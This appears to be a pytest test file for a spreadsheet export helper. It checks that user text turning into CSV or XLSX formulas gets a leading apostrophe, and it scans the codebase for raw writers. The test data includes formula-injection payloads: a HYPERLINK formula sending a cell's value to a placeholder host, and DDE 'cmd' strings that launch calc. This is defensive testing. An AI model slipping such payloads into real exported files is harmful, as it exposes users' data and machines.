"""No cell of user data becomes a spreadsheet formula, and every CSV or XLSX writer goes through one place."""

import csv
import datetime
import decimal
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from exports.spreadsheet import Workbook, csv_writer, neutralised

ROOT = Path(__file__).resolve().parents[2]
PAYLOADS = [
    '=HYPERLINK("http://exemple.invalid/?vol="&A1;"ML Lyon")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
TYPED = [
    0,
    -12,
    3.5,
    -0.25,
    decimal.Decimal("-4.10"),
    datetime.date(2026, 1, 5),
    datetime.datetime(2026, 1, 5, 8, 30),
    None,
    True,
]


@pytest.mark.parametrize("payload", PAYLOADS, ids=["equals", "plus", "minus", "at", "tab", "carriage_return"])
def test_a_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(payload):
    assert neutralised(payload) == "'" + payload


@pytest.mark.parametrize("text", ["Mission Locale de Lyon", "", "'=déjà neutralisé", "Lyon = 69", "-3", "-0,5", "+12"])
def test_plain_text_and_numbers_written_as_text_are_left_as_they_are(text):
    assert neutralised(text) == text


@pytest.mark.parametrize("value", TYPED, ids=[type(value).__name__ + repr(value)[:8] for value in TYPED])
def test_numbers_and_dates_stay_typed(value):
    assert neutralised(value) is value


def test_every_cell_of_a_workbook_is_neutralised_however_it_was_written():
    workbook = Workbook()
    sheet = workbook.active
    sheet.append([*PAYLOADS, *TYPED])
    sheet["A3"] = PAYLOADS[0]
    sheet.cell(row=4, column=1, value=PAYLOADS[1])
    second = workbook.create_sheet("Autre")
    second.append(["Titre", PAYLOADS[0]])
    output = io.BytesIO()

    workbook.save(output)

    reread = load_workbook(io.BytesIO(output.getvalue()))
    first_row = list(reread.active[1])
    # openpyxl writes "\r" as the escape "_x000D_"; read back, the cell starts with the apostrophe all the same
    assert [cell.value[:1] for cell in first_row[: len(PAYLOADS)]] == ["'"] * len(PAYLOADS)
    assert [cell.value for cell in first_row[len(PAYLOADS) : len(PAYLOADS) + 4]] == [0, -12, 3.5, -0.25]
    assert first_row[len(PAYLOADS) + 4].data_type == "n"
    assert first_row[len(PAYLOADS) + 5].value == datetime.datetime(2026, 1, 5)
    assert reread.active["A3"].value == "'" + PAYLOADS[0]
    assert reread.active["A4"].value == "'" + PAYLOADS[1]
    assert reread["Autre"]["B1"].value == "'" + PAYLOADS[0]
    for worksheet in reread.worksheets:
        for row in worksheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row)


def test_a_write_only_workbook_is_refused_since_it_could_not_be_checked():
    with pytest.raises(ValueError, match="write-only"):
        Workbook(write_only=True)


def test_the_csv_writer_neutralises_every_cell_and_returns_what_the_output_wrote():
    output = io.StringIO()
    writer = csv_writer(output, delimiter=";", lineterminator="\r\n")

    writer.writerow(PAYLOADS)
    writer.writerows([["Lyon", -3, 2.5, "-3", datetime.date(2026, 1, 5)]])

    rows = list(csv.reader(io.StringIO(output.getvalue(), newline=""), delimiter=";"))
    assert rows[0] == ["'" + payload for payload in PAYLOADS]
    assert rows[1] == ["Lyon", "-3", "2.5", "-3", "2026-01-05"]

    class Echo:
        def write(self, value):
            return value

    assert csv_writer(Echo(), delimiter=";").writerow(["=1+1", "a"]) == "'=1+1;a\r\n"


# --- The one place ------------------------------------------------------------------------------------------

# What writes a spreadsheet file without exports.spreadsheet: the csv module's writers, openpyxl's own
# workbook and save, xlsxwriter, odf, pandas' writers.
RAW_WRITERS = re.compile(
    r"csv\s*\.\s*(writer|DictWriter)\s*\("
    r"|\bfrom\s+csv\s+import\b[^\n]*\b(writer|DictWriter)\b"
    r"|\bfrom\s+openpyxl\s+import\b[^\n]*\bWorkbook\b"
    r"|\bopenpyxl\s*\.\s*(Workbook|workbook)\b"
    r"|\bopenpyxl\.writer\b|\bsave_workbook\b"
    r"|\bimport\s+xlsxwriter\b|\bfrom\s+xlsxwriter\b"
    r"|\bfrom\s+odf\b|\bimport\s+odf\b|\bpyexcel\b"
    r"|\.to_csv\s*\(|\.to_excel\s*\("
)
HELPER = ROOT / "exports" / "spreadsheet.py"
SKIPPED_DIRECTORIES = {".venv", ".data", "node_modules", "tests", "static", "staticfiles", ".git", "docs", "bench"}


def product_sources() -> list[Path]:
    sources = []
    for path in ROOT.rglob("*.py"):
        parts = set(path.relative_to(ROOT).parts[:-1])
        if parts & SKIPPED_DIRECTORIES or "migrations" in parts:
            continue
        sources.append(path)
    return sources


def test_no_csv_or_xlsx_writer_outside_the_shared_helper():
    sources = product_sources()
    assert HELPER in sources and len(sources) > 50, "the scan must see the product's code"

    offenders = [
        f"{path.relative_to(ROOT)}: {match.group()}"
        for path in sources
        if path != HELPER
        for match in RAW_WRITERS.finditer(path.read_text(encoding="utf-8"))
    ]

    assert offenders == [], "write CSV and XLSX files with exports.spreadsheet (csv_writer, Workbook)"


def test_the_guard_recognises_the_writers_it_forbids():
    for line in [
        "writer = csv.writer(output)",
        "csv.DictWriter(handle, fieldnames=names)",
        "from openpyxl import Workbook",
        "from openpyxl import load_workbook, Workbook",
        "book = openpyxl.Workbook()",
        "import xlsxwriter",
        "frame.to_csv(path)",
    ]:
        assert RAW_WRITERS.search(line), line
    assert not RAW_WRITERS.search("from exports.spreadsheet import Workbook, csv_writer")
    assert not RAW_WRITERS.search("reader = csv.reader(io.StringIO(text))")
